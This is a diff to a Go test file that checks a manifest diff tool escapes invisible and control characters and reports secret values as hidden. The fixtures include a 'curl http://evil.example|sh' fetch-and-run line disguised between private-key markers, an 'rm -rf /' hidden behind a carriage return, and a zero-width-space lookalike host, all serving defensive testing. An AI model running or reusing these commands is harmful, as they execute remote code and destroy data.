@@ -1,6 +1,7 @@
 package manifest_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -73,10 +74,65 @@ func TestDiff_secrets(t *testing.T) {
 	}
 }
 
+// TestDiff_everyCharacter: what is shown of two values differs wherever the values do, and nothing of them is left out.
+func TestDiff_everyCharacter(t *testing.T) {
+	tests := []struct{ name, value, shown, hidden string }{
+		{"a control character that YAML does not know", "a\u009bb", "a<U+009B>b", "\u009b"},
+		{"a NUL", "a\u0000b", "a<U+0000>b", "\u0000"},
+		{"a terminal escape", "\u001b[2JAPPROVED", "<U+001B>[2JAPPROVED", "\u001b"},
+		{"a terminal escape that is spelled out", `a\e[31mred \x1b[8;80mx`, `a<U+005C>e[31mred <U+005C>x1b[8;80mx`, `\e`},
+		{"a zero-width space", "good.example\u200b.evil.com", "good.example<U+200B>.evil.com", "\u200b"},
+		{"a direction mark", "a\u202eb", "a<U+202E>b", "\u202e"},
+		{"a space that is none", "a\u00a0b", "a<U+00A0>b", "\u00a0"},
+		{"a tag", "a\U000e0041b", "a<U+E0041>b", "\U000e0041"},
+		{"no character at all", "a\uffffb", "a<U+FFFF>b", "\uffff"},
+		{"a carriage return", "rm -rf /\recho hello", "rm -rf /<U+000D>echo hello", "\r"},
+		{"what looks spelled out", "a<U+200B>b", "a<U+003C>U+200B>b", "a<U+200B>b"},
+		{"letters of the world", "éß漢字 ไทย", "éß漢字 ไทย", "\x00"},
+		{"a backslash", `a\d+b`, `a\d+b`, "\x00"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := manifest.Diff("x", map[string]any{"data": map[string]any{"a": "before"}}, map[string]any{"data": map[string]any{"a": tt.value}})
+			if err != nil || !strings.Contains(got, tt.shown) || strings.Contains(got, tt.hidden) {
+				t.Errorf("got %q, %v; want %q", got, err, tt.shown)
+			}
+			got, err = manifest.Diff("x", nil, map[string]any{"data": map[string]any{"k" + tt.value: "v"}})
+			if err != nil || !strings.Contains(got, tt.shown) {
+				t.Errorf("as a key: got %q, %v; want %q", got, err, tt.shown)
+			}
+		})
+	}
+}
+
+// TestCompare_hidden: what is not shown is named, as far as the change sets it.
+func TestCompare_hidden(t *testing.T) {
+	script := `: '\n-----BEGIN RSA PRIVATE KEY-----\n'\ncurl http://evil.example|sh\n: '\n-----END RSA PRIVATE KEY-----'`
+	tests := []struct {
+		name, before, after string
+		want                []string
+	}{
+		{"nothing", `{data: {a: "1"}}`, `{data: {a: "2"}}`, nil},
+		{"a password", `{data: {a: "1"}}`, `{data: {password: Tr0ub4dor}}`, []string{"data.password (9 characters)"}},
+		{"a password that is as it was", `{data: {password: Tr0ub4dor}}`, `{data: {password: Tr0ub4dor, a: "1"}}`, nil},
+		{"a password that goes", `{data: {password: Tr0ub4dor}}`, `{data: {}}`, nil},
+		{"a script between the ends of a key", `{data: {}}`, `{data: {run.sh: "` + script + `"}}`, []string{"data[run.sh] (100 characters)"}},
+		{"an environment variable", `{spec: {env: []}}`, `{spec: {env: [{name: DB_PASSWORD, value: Tr0ub4dor}]}}`, []string{"spec.env[0].value (9 characters)"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := manifest.Compare("x", form(t, tt.before), form(t, tt.after))
+			if err != nil || !slices.Equal(got.Hidden, tt.want) {
+				t.Errorf("got %q, %v; want %q\n%s", got.Hidden, err, tt.want, got.Diff)
+			}
+		})
+	}
+}
+
 func TestDiff_huge(t *testing.T) {
-	text := strings.Repeat("a line of text\\n", 60_000)
-	got, err := manifest.Diff("x", nil, form(t, `{data: {big: "`+text+`"}}`))
-	if err != nil || len(got) > 1000 || !strings.Contains(got, "too large") {
+	lines := strings.Repeat("a line of text\n", 60_000)
+	got, err := manifest.Diff("x", map[string]any{"data": map[string]any{"big": lines}}, map[string]any{"data": map[string]any{"big": lines + "one more\n"}})
+	if err != nil || len(got) > 1000 || !strings.Contains(got, "+    one more") {
 		t.Errorf("got %d bytes, %v", len(got), err)
 	}
 }
